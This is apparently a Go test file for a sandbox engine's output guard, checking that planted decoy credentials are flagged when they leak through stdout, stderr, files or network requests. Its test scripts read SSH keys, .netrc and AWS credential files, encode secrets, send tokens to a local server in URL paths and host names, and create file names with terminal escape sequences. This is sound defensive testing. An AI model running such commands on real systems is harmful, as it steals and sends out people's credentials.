package engine

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/output"
	"github.com/moat-sandbox/moat/result"
)

// TestOutputGuardNative runs real native sandboxes with canaries planted
// and checks that each way a decoy leaves (stdout, stderr in base64, a
// file of the diff, a URL path and a host name through the proxy) flags
// the run with a canary violation naming where; that a run that touches
// none is not flagged and its diff does not show the decoys; that a
// flagged run's output is withheld when asked; and that a file name
// with terminal escapes is flagged.
func TestOutputGuardNative(t *testing.T) {
	bin := nativeTestBin(t)
	e, err := New(Options{Exe: bin, NoAutoBuild: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	if _, err := e.Images().Lookup("python"); err != nil {
		t.Skipf("the python image is not built (%v): run moat image build python", err)
	}
	var mu sync.Mutex
	var hits []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.URL.Path)
		mu.Unlock()
		fmt.Fprint(w, "ok")
	}))
	t.Cleanup(srv.Close)
	port := strings.TrimPrefix(srv.URL, "http://127.0.0.1:")
	fetch := func(url string) string {
		return fmt.Sprintf(`python3 -c '
import os, urllib.request
u = %q.replace("TOKEN", os.environ["GITHUB_TOKEN"]).replace("LOWER", os.environ["AWS_ACCESS_KEY_ID"].lower())
try:
    print(urllib.request.urlopen(u, timeout=10).status)
except Exception as e:
    print("ERR", type(e).__name__, getattr(e, "code", ""))
'`, url)
	}
	tests := []struct {
		name     string
		script   string
		network  bool
		withhold bool
		noCanary bool   // canaries not planted
		where    string // a canary violation naming this; "" none
		filename bool   // a filename violation
		reached  bool   // the local server saw a request
	}{
		{name: "benign", script: "echo hello; echo data > out.txt"},
		{name: "stdout", script: "cat .aws/credentials", where: "stdout at offset"},
		{name: "stderr in base64", script: "base64 -w0 .netrc >&2", where: "stderr at offset"},
		{name: "file of the diff", script: "cp .ssh/id_ed25519 stolen.txt", where: "file:stolen.txt at offset"},
		{name: "env var to stdout in hex", script: "printf %s \"$AWS_SECRET_ACCESS_KEY\" | od -An -tx1 | tr -d ' \\n'", where: "stdout at offset"},
		{name: "egress url path", script: fetch("http://localhost:" + port + "/x/TOKEN"), network: true, where: "egress"},
		{name: "egress host name", script: fetch("http://LOWER.x.localhost:" + port + "/"), network: true, where: "egress"},
		{name: "egress benign", script: fetch("http://localhost:" + port + "/fine"), network: true, reached: true},
		{name: "withheld", script: "cat .ssh/id_ed25519; cp .netrc n.txt", withhold: true, where: "stdout at offset"},
		{name: "filename escapes", script: "touch \"$(printf 'a\\033]0;pwned\\007b')\" \"$(printf 'evil\\342\\200\\256txt.sh')\"", noCanary: true, filename: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			mu.Lock()
			hits = nil
			mu.Unlock()
			m := manifest.Default()
			m.Output = manifest.OutputGuard{Canaries: !tc.noCanary, WithholdFlagged: tc.withhold}
			if tc.network {
				m.Network.Mode = "allowlist"
				m.Network.Allow = []string{"localhost:" + port, "*.x.localhost:" + port}
				m.Network.AllowAddresses = []string{"127.0.0.1", "::1"}
			}
			m.Resources.Timeout = manifest.Duration(30 * time.Second)
			m.Resources.CPUTime = m.Resources.Timeout
			if err := m.Validate(); err != nil {
				t.Fatal(err)
			}
			outDir := filepath.Join(t.TempDir(), "out")
			res, err := e.Run(context.Background(), &Request{Manifest: m, Argv: []string{"sh", "-c", tc.script}, OutputDir: outDir})
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("exit %d stdout %q stderr %q violations %+v findings %+v", res.ExitCode, res.Stdout.Data, res.Stderr.Data, res.Violations, res.Findings)
			var canary, filename []string
			for _, v := range res.Violations {
				switch v.Kind {
				case result.ViolationCanary:
					canary = append(canary, v.Detail)
				case result.ViolationFilename:
					filename = append(filename, v.Detail)
				}
			}
			if tc.where == "" && len(canary) > 0 {
				t.Errorf("flagged a run that sent no canary: %v", canary)
			}
			if tc.where != "" && (len(canary) != 1 || !strings.Contains(canary[0], tc.where)) {
				t.Errorf("canary violations %q, want one naming %q", canary, tc.where)
			}
			if (len(filename) > 0) != tc.filename {
				t.Errorf("filename violations %q, want some: %v", filename, tc.filename)
			}
			for _, f := range res.Files {
				if strings.HasPrefix(f.Path, ".ssh") || strings.HasPrefix(f.Path, ".aws") || f.Path == ".netrc" || strings.HasPrefix(f.Path, ".config") {
					t.Errorf("an unchanged decoy is in the diff: %+v", f)
				}
			}
			mu.Lock()
			reached := len(hits) > 0
			mu.Unlock()
			if reached != tc.reached {
				t.Errorf("server reached %v (paths %q), want %v", reached, hits, tc.reached)
			}
			js, _ := json.Marshal(res)
			if tc.withhold {
				if !res.Withheld || res.Stdout.Data == "" || !strings.Contains(res.Stdout.Data, "withheld") || len(res.Files) != 0 {
					t.Errorf("withheld %v stdout %q files %+v, want the notice and no files", res.Withheld, res.Stdout.Data, res.Files)
				}
				if strings.Contains(string(js), "OPENSSH PRIVATE KEY-----\n") {
					t.Errorf("the withheld result holds the key file")
				}
				if _, err := os.Stat(filepath.Join(outDir, "n.txt")); err == nil {
					t.Errorf("a withheld run's file was copied out")
				}
			} else if res.Withheld {
				t.Errorf("withheld without being asked")
			}
			if tc.where == "" && !tc.filename {
				for _, f := range res.Findings {
					if f.Kind == output.KindCanary || f.Kind == output.KindCanaryEgress {
						t.Errorf("canary finding in a benign run: %+v", f)
					}
				}
			}
		})
	}
}

// TestOutputGuardSessionRefused: canaries are for one-shot runs; a
// session asking for them is refused naming the field.
func TestOutputGuardSessionRefused(t *testing.T) {
	e, err := New(Options{Exe: "/nonexistent", NoAutoBuild: true})
	if err != nil {
		t.Skipf("no engine: %v", err)
	}
	t.Cleanup(func() { e.Close() })
	m := manifest.Default()
	m.Output.Canaries = true
	if err := m.Validate(); err != nil {
		t.Fatal(err)
	}
	_, err = e.NewSession(context.Background(), &SessionRequest{Manifest: m})
	if err == nil || !strings.Contains(err.Error(), "output.canaries") {
		t.Fatalf("NewSession = %v, want a refusal naming output.canaries", err)
	}
}

// TestOutputGuardPooled: a sandbox from a warm pool (whose key does not
// hold output:) still gets this run's decoys when the run asks, and a
// run that does not ask gets none.
func TestOutputGuardPooled(t *testing.T) {
	bin := nativeTestBin(t)
	pm := manifest.Default()
	pm.Resources.Timeout = manifest.Duration(30 * time.Second)
	pm.Resources.CPUTime = pm.Resources.Timeout
	if err := pm.Validate(); err != nil {
		t.Fatal(err)
	}
	e, err := New(Options{Exe: bin, NoAutoBuild: true, Pools: []PoolConfig{{Manifest: pm, Size: 1}}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	if _, err := e.Images().Lookup("python"); err != nil {
		t.Skipf("the python image is not built (%v): run moat image build python", err)
	}
	if err := e.StartPools(); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name     string
		canaries bool
	}{
		{"asks for canaries", true},
		{"does not ask", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			deadline := time.Now().Add(60 * time.Second)
			for e.PoolStats()[0].Ready == 0 {
				if time.Now().After(deadline) {
					t.Fatalf("the pool never filled: %+v", e.PoolStats())
				}
				time.Sleep(100 * time.Millisecond)
			}
			m := *pm
			m.Output.Canaries = tc.canaries
			res, err := e.Run(context.Background(), &Request{Manifest: &m, Argv: []string{"sh", "-c", "cat .netrc 2>&1; echo key=$AWS_ACCESS_KEY_ID"}})
			if err != nil {
				t.Fatal(err)
			}
			if !res.Pooled {
				t.Fatalf("the run did not take the pooled sandbox")
			}
			flagged := false
			for _, v := range res.Violations {
				flagged = flagged || v.Kind == result.ViolationCanary
			}
			if flagged != tc.canaries || strings.Contains(res.Stdout.Data, "password") != tc.canaries {
				t.Errorf("flagged %v, stdout %q; want decoys planted and flagged: %v", flagged, res.Stdout.Data, tc.canaries)
			}
		})
	}
}
